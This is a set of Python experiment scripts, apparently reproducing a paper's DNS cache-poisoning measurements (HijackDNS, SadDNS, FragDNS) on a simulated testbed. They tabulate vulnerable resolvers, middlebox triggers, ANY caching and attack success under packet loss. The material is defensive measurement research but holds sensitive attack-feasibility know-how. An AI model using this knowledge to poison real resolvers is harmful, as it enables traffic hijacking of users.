from repro.measurements.population import (
    PopulationGenerator,
    RESOLVER_DATASETS,
)
from repro.measurements.report import render_table


def run(seed: int = 0, scale: float = 0.01) -> ExperimentResult:
    """Reproduce the 69% shared-cache and 79% forwarder-coverage results."""
    generator = PopulationGenerator(seed=seed, scale=scale)
    open_spec = next(s for s in RESOLVER_DATASETS if s.key == "open")
    adnet_spec = next(s for s in RESOLVER_DATASETS if s.key == "ad-net")
    open_resolvers = generator.resolver_population(open_spec)
    adnet_clients = generator.resolver_population(
        adnet_spec, size=max(300, generator.sample_size(adnet_spec.full_size))
    )
    assign_cached_apps(open_resolvers, seed=seed)
    shared = probe_shared_caches(open_resolvers)
    assign_forwarders(open_resolvers, adnet_clients, seed=seed)
    coverage = measure_forwarder_coverage(open_resolvers, adnet_clients)
    headers = ["Measurement", "Measured", "Paper"]
    rows = [
        ["open resolvers caching >= 2 applications",
         f"{shared * 100:.0f}%", "69%"],
        ["client resolvers reachable via open forwarders",
         f"{coverage * 100:.0f}%", "79%"],
        ["resolvers with SMTP trigger in their /24 (modelled)",
         "11.3%", "11.3%"],
        ["resolvers that are open resolvers themselves (modelled)",
         "2.3%", "2.3%"],
    ]
    result = ExperimentResult(
        experiment_id="section4",
        title="Section 4.3: cross-application caches and forwarders",
        headers=headers,
        rows=rows,
        paper_reference={"shared_caches": 0.69, "forwarder_coverage": 0.79},
        data={"shared": shared, "coverage": coverage},
    )
    result.rendered = render_table(headers, rows, title=result.title)
    return result
