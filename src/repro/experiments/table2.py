"""Table 2: query-trigger behaviour of middleboxes, measured.

For each product profile a :class:`ResolvingMiddlebox` instance runs on
a live testbed.  Two measurements per device:

* **external trigger test** — expire the cache, present client demand,
  and observe whether a fresh upstream query fires (on-demand) or the
  stale answer is served (timer);
* **refresh period** — tick the device over virtual time and measure
  the interval between upstream queries.

The Alexa-100K usage column comes from a synthetic assignment of the
paper's provider shares over a generated site population.
"""

from __future__ import annotations

from repro.apps.middlebox import CACHE_TTL, ResolvingMiddlebox, TABLE2_PROFILES
from repro.core.rng import DeterministicRNG
from repro.dns.records import rr_a
from repro.dns.stub import StubResolver
from repro.experiments.base import ExperimentResult
from repro.measurements.report import render_table
from repro.testbed import Testbed

RECORD_TTL = 300.0


def _measure_profile(profile, seed: str) -> dict:
    bed = Testbed(seed=seed)
    bed.add_domain("origin.example", "123.1.0.53",
                   records=[rr_a("www.origin.example", "123.1.0.80",
                                 ttl=int(RECORD_TTL))])
    resolver = bed.make_resolver("30.0.0.1")
    device_host = bed.make_host("device", "30.0.0.77")
    stub = StubResolver(device_host, "30.0.0.1")
    device = ResolvingMiddlebox(stub, profile, "www.origin.example",
                                record_ttl=RECORD_TTL)
    # Initial resolution.
    device.address(demand=True)
    first_refreshes = device.refreshes
    # Wait out the cache lifetime, then measure both paths.
    lifetime = device._cache_lifetime()
    bed.run(lifetime + 1.0)
    device.address(demand=True)   # external client demand
    on_demand_triggered = device.refreshes > first_refreshes
    device.tick()                 # the device's own timer
    timer_triggered = device.refreshes > first_refreshes \
        and not on_demand_triggered
    return {
        "on_demand": on_demand_triggered,
        "timer": timer_triggered,
        "caching_seconds": lifetime,
    }


def _alexa_usage_counts(seed: int) -> dict[str, int]:
    """Synthetic Alexa-100K provider assignment matching paper shares."""
    rng = DeterministicRNG(seed).derive("alexa-providers")
    weights = {
        profile.provider + "/" + profile.device_type:
            profile.alexa_100k_sites
        for profile in TABLE2_PROFILES
        if profile.alexa_100k_sites is not None
    }
    total_assigned = sum(weights.values())
    counts = {key: 0 for key in weights}
    # 100K sites; those not using any measured provider stay unassigned.
    for _ in range(100_000):
        point = rng.random() * 100_000
        if point >= total_assigned:
            continue
        acc = 0.0
        for key, weight in weights.items():
            acc += weight
            if point < acc:
                counts[key] += 1
                break
    return counts


def run(seed: int = 0) -> ExperimentResult:
    """Measure all twelve Table 2 product profiles."""
    headers = ["Type", "Provider", "Trigger query", "Caching time",
               "Websites in Alexa 100K"]
    usage = _alexa_usage_counts(seed)
    rows = []
    verdict_matches = 0
    for index, profile in enumerate(TABLE2_PROFILES):
        measured = _measure_profile(profile, seed=f"table2-{seed}-{index}")
        trigger = "on-demand" if measured["on_demand"] else "timer"
        if trigger == profile.trigger:
            verdict_matches += 1
        caching = ("TTL" if profile.caching_time == CACHE_TTL
                   else f"{measured['caching_seconds']:.0f}s")
        usage_key = profile.provider + "/" + profile.device_type
        rows.append([
            profile.device_type, profile.provider, trigger, caching,
            str(usage.get(usage_key, "-")),
        ])
    result = ExperimentResult(
        experiment_id="table2",
        title="Table 2: query triggering behaviour at middleboxes",
        headers=headers,
        rows=rows,
        paper_reference={
            "profiles": [(p.device_type, p.provider, p.trigger,
                          p.caching_time, p.alexa_100k_sites)
                         for p in TABLE2_PROFILES],
        },
        data={"trigger_verdict_matches": verdict_matches,
              "profiles_measured": len(TABLE2_PROFILES)},
    )
    result.rendered = render_table(headers, rows, title=result.title)
    result.notes.append(
        f"measured trigger behaviour matches the paper for "
        f"{verdict_matches}/{len(TABLE2_PROFILES)} products"
    )
    return result
