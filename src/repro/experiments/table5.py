"""Table 5: ANY-response caching across resolver implementations.

For each implementation preset, a live testbed resolver is configured
with the preset's behaviour; a client issues an ANY query and then an A
query, and the experiment observes whether the A query was answered
from cache (no new upstream query) — exactly the paper's test.

The five implementation cells are independent seeded testbeds, so they
run through the same :func:`repro.atlas.pipeline.run_tasks` worker pool
the population scans use — ``run(workers=4)`` fans them out across
processes with bit-identical verdicts.
"""

from __future__ import annotations

from repro.atlas.pipeline import run_tasks
from repro.dns.impls import ALL_IMPLEMENTATIONS, TABLE5_EXPECTED
from repro.dns.records import QTYPE_ANY, TYPE_A, rr_a, rr_mx, rr_txt
from repro.dns.resolver import ResolverConfig
from repro.dns.stub import StubResolver
from repro.experiments.base import ExperimentResult
from repro.measurements.report import render_table
from repro.testbed import Testbed


def _test_implementation(profile, seed: str) -> tuple[bool, str]:
    """Returns (vulnerable, note) for one implementation."""
    bed = Testbed(seed=seed)
    bed.add_domain("any-test.example", "123.2.0.53", records=[
        rr_a("any-test.example", "123.2.0.80"),
        rr_mx("any-test.example", 10, "mail.any-test.example"),
        rr_txt("any-test.example", "v=spf1 -all"),
    ])
    config = profile.make_config(open_to_world=True)
    resolver = bed.make_resolver("30.0.0.1", config=config)
    client = bed.make_host("client", "30.0.0.50")
    stub = StubResolver(client, "30.0.0.1")
    any_answer = stub.lookup("any-test.example", QTYPE_ANY)
    if not any_answer.ok or not any_answer.records:
        # ANY refused outright (Unbound's RFC 8482 behaviour).
        return False, "doesn't support ANY at all"
    upstream_before = resolver.stats.upstream_queries
    a_answer = stub.lookup("any-test.example", TYPE_A)
    upstream_after = resolver.stats.upstream_queries
    answered_from_cache = (
        a_answer.ok and a_answer.addresses()
        and upstream_after == upstream_before
    )
    if answered_from_cache:
        return True, "cached"
    return False, "not cached"


def _run_cell(task) -> tuple[str, bool, str]:
    """Worker entry point: one implementation's caching test."""
    profile, seed = task
    vulnerable, note = _test_implementation(profile, seed=seed)
    return f"{profile.name} {profile.version}", vulnerable, note


def run(seed: int = 0, workers: int | None = None) -> ExperimentResult:
    """Test all five implementation presets (optionally in parallel).

    Each cell's verdict depends only on its seed, so the process pool
    and the serial loop produce identical tables; the default stays
    serial because five sub-second testbeds don't repay pool startup.
    """
    headers = ["Implementation", "Vulnerable", "Note"]
    rows = []
    matches = 0
    tasks = [(profile, f"table5-{seed}-{profile.name}")
             for profile in ALL_IMPLEMENTATIONS]
    cells, executor, _pool_size = run_tasks(
        _run_cell, tasks, workers=workers if workers is not None else 1,
        executor="process" if workers is not None and workers > 1
        else "serial",
    )
    for label, vulnerable, note in cells:
        rows.append([label, "yes" if vulnerable else "no", note])
        expected = TABLE5_EXPECTED.get(label)
        if expected is not None \
                and expected[0] == ("yes" if vulnerable else "no"):
            matches += 1
    result = ExperimentResult(
        experiment_id="table5",
        title="Table 5: ANY caching results of popular resolvers",
        headers=headers,
        rows=rows,
        paper_reference=TABLE5_EXPECTED,
        data={"matches": matches, "total": len(ALL_IMPLEMENTATIONS),
              "executor": executor},
    )
    result.rendered = render_table(headers, rows, title=result.title)
    result.notes.append(
        f"verdicts matching the paper: {matches}/{len(ALL_IMPLEMENTATIONS)}"
    )
    return result
