"""Attack effectiveness and benign service quality on degraded paths.

The paper's measurements assume a clean resolver-to-nameserver path;
real recursive-to-authoritative paths lose and delay packets.  This
experiment reruns the budget-capped sweep while :mod:`repro.faults`
impairs the resolver<->target-NS link — packet loss, added latency,
and both together — with a benign client population attached so the
ordinary-traffic cost (p99 lookup latency) is measured alongside
attack success.

Fault draws come from their own derived RNG stream, so the ``clean``
rows are bit-identical to the fault-free sweep, and every impaired
row is bit-identical across the serial, thread, and process executors
(the resilience tests assert exactly that).
"""

from __future__ import annotations

from dataclasses import replace

from repro.experiments.base import ExperimentResult
from repro.faults import FaultPlan
from repro.measurements.report import render_table
from repro.scenario.campaign import Campaign
from repro.scenario.presets import sweep_scenarios
from repro.testbed import RESOLVER_IP, TARGET_NS_IP
from repro.workload.population import WorkloadSpec

#: Impairment grid on the resolver<->target-NS link: (key, knobs).
#: ``clean`` is the empty plan — a strict no-op by construction.
FAULT_LEVELS = (
    ("clean", {}),
    ("loss2%", {"loss": 0.02}),
    ("lat+40ms", {"extra_latency": 0.04}),
    ("loss+lat", {"loss": 0.02, "extra_latency": 0.04}),
)

#: Benign population shared by every cell, so latency percentiles are
#: comparable across fault levels.
BASE_WORKLOAD = WorkloadSpec(clients=3, qps=5.0, duration=8.0,
                             warmup=2.0, domains=10, victim_ttl=6,
                             label="degraded")

#: A benign p99 above this is dominated by resolver upstream timeouts
#: (a muted nameserver), not path latency — +40ms cannot move it.
TAIL_SATURATED_MS = 1000.0


def fault_plan(knobs: dict) -> FaultPlan | None:
    """The symmetric resolver<->NS impairment for one grid level."""
    if not knobs:
        return None
    return FaultPlan.link(RESOLVER_IP, TARGET_NS_IP, label="degraded",
                          **knobs)


def run(seeds=range(6), executor: str = "serial",
        workers: int | None = None, store=None) -> ExperimentResult:
    """Sweep (method x fault level x seed) and tabulate the findings."""
    cells = []
    for scenario in sweep_scenarios():
        for level, knobs in FAULT_LEVELS:
            cells.append(replace(
                scenario, faults=fault_plan(knobs),
                workload=BASE_WORKLOAD,
                label=f"{scenario.method}@{level}"))
    campaign = Campaign(executor=executor, workers=workers)
    result = campaign.run(cells, seeds=seeds, store=store)

    headers = ["Method", "Path fault", "Runs", "Attack success",
               "Benign p50 ms", "Benign p99 ms", "Dropped", "Delayed"]
    rows = []
    data: dict[str, dict] = {"cells": {}}
    by_label = result.by_label()
    methods = [s.method for s in sweep_scenarios()]
    for method in methods:
        for level, _ in FAULT_LEVELS:
            key = f"{method}@{level}"
            summary = by_label[key]
            load = summary.load
            p50 = load.latency_percentile_ms(0.50)
            p99 = load.latency_percentile_ms(0.99)
            dropped = delayed = 0
            for run_ in result.runs:
                if run_.label == key:
                    stats = run_.result.detail.get("faults", {})
                    dropped += stats.get("dropped", 0)
                    delayed += stats.get("delayed", 0)
            rows.append([method, level, summary.runs,
                         f"{summary.success_rate * 100:.0f}%",
                         f"{p50:.1f}", f"{p99:.1f}",
                         str(dropped), str(delayed)])
            data["cells"][key] = {
                "success_rate": summary.success_rate,
                "p50_ms": round(p50, 3),
                "p99_ms": round(p99, 3),
                "faults_dropped": dropped,
                "faults_delayed": delayed,
                "load_checksum": load.checksum(),
            }

    # Shape claims the benches assert: the effectiveness ordering
    # survives path degradation, and added path latency is visible to
    # benign clients as a higher p99 than the clean path.
    orderings = []
    for level, _ in FAULT_LEVELS:
        level_rates = {m: data["cells"][f"{m}@{level}"]["success_rate"]
                       for m in methods}
        orderings.append(level_rates["HijackDNS"]
                         >= level_rates["FragDNS"]
                         >= level_rates["SadDNS"])
    data["ordering_holds"] = all(orderings)
    # SadDNS mutes the NS with its rate-limit trigger, so benign tail
    # latency sits at the resolver's upstream-timeout ceiling in every
    # cell — the +40ms bump can only show where the clean-path tail is
    # below that ceiling; saturated methods must merely not improve.
    latency_visible = all(
        data["cells"][f"{m}@lat+40ms"]["p99_ms"]
        > data["cells"][f"{m}@clean"]["p99_ms"]
        if data["cells"][f"{m}@clean"]["p99_ms"] < TAIL_SATURATED_MS
        else data["cells"][f"{m}@lat+40ms"]["p99_ms"]
        >= data["cells"][f"{m}@clean"]["p99_ms"]
        for m in methods)
    data["latency_visible"] = latency_visible
    loss_observed = all(
        data["cells"][f"{m}@loss2%"]["faults_dropped"] > 0
        for m in methods)
    data["loss_observed"] = loss_observed

    experiment = ExperimentResult(
        experiment_id="degraded",
        title="Attack effectiveness on degraded resolver-NS paths "
              "(budget-capped sweep, benign load attached)",
        headers=headers,
        rows=rows,
        paper_reference={
            "idle_effectiveness_order":
                ["HijackDNS", "FragDNS", "SadDNS"],
        },
        data=data,
    )
    experiment.rendered = render_table(headers, rows,
                                       title=experiment.title)
    experiment.notes.append(
        f"effectiveness ordering HijackDNS >= FragDNS >= SadDNS holds "
        f"at every fault level: {data['ordering_holds']}")
    experiment.notes.append(
        f"+40ms path latency raises benign p99 above the clean path "
        f"wherever the clean tail is below the upstream-timeout "
        f"ceiling: {latency_visible}")
    experiment.notes.append(
        f"2% loss level observed dropped packets in every method's "
        f"sweep: {loss_observed}")
    experiment.notes.append(
        "clean rows are bit-identical to a fault-free sweep (fault "
        "draws live on their own derived RNG stream), and the whole "
        "grid is bit-identical across serial/thread/process executors")
    return experiment
