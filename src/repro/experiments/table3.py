"""Table 3: vulnerable resolvers per dataset.

Both paths run on the :mod:`repro.atlas` shard pipeline:

* :func:`run` — the sampled survey (``scale`` of each population,
  entities kept in memory for the figures that need per-entity access);
* :func:`run_full` — the population-scale scan at the paper's full
  dataset sizes (1.58M open resolvers), streaming in constant memory,
  optionally sharded across process workers and resumable via an
  :class:`repro.atlas.store.AtlasStore`.
"""

from __future__ import annotations

from repro.atlas.pipeline import AtlasScanReport, scan_dataset
from repro.experiments.base import ExperimentResult
from repro.measurements.population import (
    RESOLVER_DATASETS,
    sample_size,
)
from repro.measurements.report import render_table

HEADERS = ["Dataset", "Protocol", "BGP hijack sub-prefix %",
           "SadDNS %", "Fragment %", "Dataset size"]


def _full_scan_note(reports: dict[str, AtlasScanReport], wall: float,
                    shards: int, noun: str) -> str:
    """Resume-aware provenance note: cached shards are not 'scanned'."""
    computed = sum(r.computed_entities for r in reports.values())
    cached = sum(r.entities - r.computed_entities for r in reports.values())
    note = (f"full-population scan via repro.atlas: {computed:,} {noun} "
            f"computed in {wall:.1f}s across {shards} shards per dataset")
    if cached:
        note += f" (+{cached:,} loaded from the shard store)"
    return note


def _row(spec, summary) -> list[str]:
    return [
        spec.label, spec.protocols,
        f"{summary.pct('hijack'):.0f}%",
        f"{summary.pct('saddns'):.0f}%",
        f"{summary.pct('frag'):.0f}%",
        f"{spec.full_size:,}",
    ]


def _result(rows, summaries, extra_data, notes) -> ExperimentResult:
    result = ExperimentResult(
        experiment_id="table3",
        title="Table 3: vulnerable resolvers",
        headers=HEADERS,
        rows=rows,
        paper_reference={
            spec.key: (spec.expected_hijack, spec.expected_saddns,
                       spec.expected_frag)
            for spec in RESOLVER_DATASETS
        },
        data={"summaries": summaries, **extra_data},
    )
    result.rendered = render_table(HEADERS, rows, title=result.title)
    result.notes.extend(notes)
    return result


def run(seed: int = 0, scale: float = 0.01) -> ExperimentResult:
    """Scan a ``scale`` sample of all nine resolver datasets."""
    rows = []
    summaries = {}
    populations = {}
    for spec in RESOLVER_DATASETS:
        report = scan_dataset(
            spec, seed=seed, entities=sample_size(spec.full_size, scale),
            shards=1, executor="serial", keep_entities=True,
        )
        summaries[spec.key] = report.summary
        populations[spec.key] = report.entities_kept
        rows.append(_row(spec, report.summary))
    return _result(
        rows, summaries,
        {"populations": populations,
         "sampled_sizes": {key: summary.size
                           for key, summary in summaries.items()}},
        [f"populations sampled at scale={scale} via the repro.atlas "
         "pipeline; dataset sizes shown are the paper's full populations"],
    )


def run_full(seed: int = 0, entities: int | None = None, shards: int = 16,
             workers: int | None = None, executor: str = "process",
             store=None) -> ExperimentResult:
    """Scan every resolver dataset at the paper's full size.

    Streams all 2.1M resolvers through the sharded pipeline — the
    percentages in the rendered table are computed over the *entire*
    population, not extrapolated from a sample.
    """
    rows = []
    summaries = {}
    reports: dict[str, AtlasScanReport] = {}
    total_wall = 0.0
    for spec in RESOLVER_DATASETS:
        report = scan_dataset(spec, seed=seed, entities=entities,
                              shards=shards, workers=workers,
                              executor=executor, store=store)
        reports[spec.key] = report
        summaries[spec.key] = report.summary
        rows.append(_row(spec, report.summary))
        total_wall += report.wall_clock
    return _result(rows, summaries, {"reports": reports},
                   [_full_scan_note(reports, total_wall, shards,
                                    "entities")])
