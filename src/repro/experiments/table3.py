"""Table 3: vulnerable resolvers per dataset."""

from __future__ import annotations

from repro.experiments.base import ExperimentResult
from repro.measurements.population import (
    PopulationGenerator,
    RESOLVER_DATASETS,
)
from repro.measurements.report import render_table
from repro.measurements.scanner import scan_front_end, summarise_resolver_scan


def run(seed: int = 0, scale: float = 0.01) -> ExperimentResult:
    """Generate, scan and summarise all nine resolver datasets."""
    generator = PopulationGenerator(seed=seed, scale=scale)
    headers = ["Dataset", "Protocol", "BGP hijack sub-prefix %",
               "SadDNS %", "Fragment %", "Dataset size"]
    rows = []
    summaries = {}
    populations = {}
    for spec in RESOLVER_DATASETS:
        front_ends = generator.resolver_population(spec)
        results = [scan_front_end(front_end) for front_end in front_ends]
        summary = summarise_resolver_scan(spec.label, spec.full_size,
                                          results)
        summaries[spec.key] = summary
        populations[spec.key] = front_ends
        rows.append([
            spec.label, spec.protocols,
            f"{summary.pct('hijack'):.0f}%",
            f"{summary.pct('saddns'):.0f}%",
            f"{summary.pct('frag'):.0f}%",
            f"{spec.full_size:,}",
        ])
    result = ExperimentResult(
        experiment_id="table3",
        title="Table 3: vulnerable resolvers",
        headers=headers,
        rows=rows,
        paper_reference={
            spec.key: (spec.expected_hijack, spec.expected_saddns,
                       spec.expected_frag)
            for spec in RESOLVER_DATASETS
        },
        data={"summaries": summaries, "populations": populations,
              "sampled_sizes": {
                  spec.key: summaries[spec.key].size
                  for spec in RESOLVER_DATASETS
              }},
    )
    result.rendered = render_table(headers, rows, title=result.title)
    result.notes.append(
        f"populations sampled at scale={scale}; dataset sizes shown are "
        "the paper's full populations"
    )
    return result
