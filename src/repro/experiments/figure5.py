"""Figure 5: Venn diagrams of vulnerable resolvers and domains.

The union of all Table 3 (resolver) and Table 4 (domain) populations is
intersected across the three methodologies' measured flags; sampled
counts are extrapolated to the paper's full population sizes so the
reported magnitudes are directly comparable with Figure 5.
"""

from __future__ import annotations

from repro.experiments import table3, table4
from repro.experiments.base import ExperimentResult
from repro.measurements.report import VennCounts, scale_count, venn_from_flags
from repro.measurements.scanner import scan_domain, scan_front_end

PAPER_RESOLVER_VENN = {
    "only_hijack": 45_117, "only_saddns": 1_787, "only_frag": 3_525,
    "hijack_saddns": 5_515, "hijack_frag": 16_672, "saddns_frag": 1_145,
    "all_three": 1_075,
}
PAPER_DOMAIN_VENN = {
    "only_hijack": 407_483, "only_saddns": 39_094, "only_frag": 2_587,
    "hijack_saddns": 61_455, "hijack_frag": 10_178, "saddns_frag": 265,
    "all_three": 29_690,
}


def _scaled_venn(venn: VennCounts, sampled: int, full: int) -> VennCounts:
    return VennCounts(
        only_a=scale_count(venn.only_a, sampled, full),
        only_b=scale_count(venn.only_b, sampled, full),
        only_c=scale_count(venn.only_c, sampled, full),
        ab=scale_count(venn.ab, sampled, full),
        ac=scale_count(venn.ac, sampled, full),
        bc=scale_count(venn.bc, sampled, full),
        abc=scale_count(venn.abc, sampled, full),
        labels=venn.labels,
    )


def run(seed: int = 0, scale: float = 0.01) -> ExperimentResult:
    """Compute both Venn diagrams from the survey populations."""
    survey3 = table3.run(seed=seed, scale=scale)
    survey4 = table4.run(seed=seed, scale=scale)
    resolver_flags = []
    sampled_resolvers = 0
    full_resolvers = 0
    for key, population in survey3.data["populations"].items():
        spec_full = next(
            s.full_size for s in __import__(
                "repro.measurements.population", fromlist=["RESOLVER_DATASETS"]
            ).RESOLVER_DATASETS if s.key == key
        )
        sampled_resolvers += len(population)
        full_resolvers += spec_full
        for front_end in population:
            scan = scan_front_end(front_end)
            if scan.hijack or scan.saddns or scan.frag:
                resolver_flags.append((scan.hijack, scan.saddns, scan.frag))
    domain_flags = []
    sampled_domains = 0
    full_domains = 0
    for key, population in survey4.data["populations"].items():
        spec_full = next(
            s.full_size for s in __import__(
                "repro.measurements.population", fromlist=["DOMAIN_DATASETS"]
            ).DOMAIN_DATASETS if s.key == key
        )
        sampled_domains += len(population)
        full_domains += spec_full
        for domain in population:
            scan = scan_domain(domain)
            frag = scan.frag_any or scan.frag_global
            if scan.hijack or scan.saddns or frag:
                domain_flags.append((scan.hijack, scan.saddns, frag))
    resolver_venn = venn_from_flags(resolver_flags)
    domain_venn = venn_from_flags(domain_flags)
    resolver_scaled = _scaled_venn(resolver_venn, sampled_resolvers,
                                   full_resolvers)
    domain_scaled = _scaled_venn(domain_venn, sampled_domains, full_domains)
    rendered = "\n\n".join([
        resolver_scaled.render(
            "(a) vulnerable resolvers, scaled to full population"),
        domain_scaled.render(
            "(b) vulnerable domains, scaled to full population"),
    ])
    rows = [
        ["resolvers", "HijackDNS", resolver_scaled.set_total("HijackDNS")],
        ["resolvers", "SadDNS", resolver_scaled.set_total("SadDNS")],
        ["resolvers", "FragDNS", resolver_scaled.set_total("FragDNS")],
        ["domains", "HijackDNS", domain_scaled.set_total("HijackDNS")],
        ["domains", "SadDNS", domain_scaled.set_total("SadDNS")],
        ["domains", "FragDNS", domain_scaled.set_total("FragDNS")],
    ]
    result = ExperimentResult(
        experiment_id="figure5",
        title="Figure 5: Venn diagram of vulnerable resolvers and domains",
        headers=["population", "method", "scaled count"],
        rows=rows,
        paper_reference={"resolvers": PAPER_RESOLVER_VENN,
                         "domains": PAPER_DOMAIN_VENN},
        data={"resolver_venn": resolver_scaled,
              "domain_venn": domain_scaled,
              "resolver_venn_sampled": resolver_venn,
              "domain_venn_sampled": domain_venn},
    )
    result.rendered = rendered
    result.notes.append(
        "HijackDNS dominates both diagrams; SadDNS/FragDNS overlap "
        "mostly through HijackDNS, as in the paper"
    )
    return result
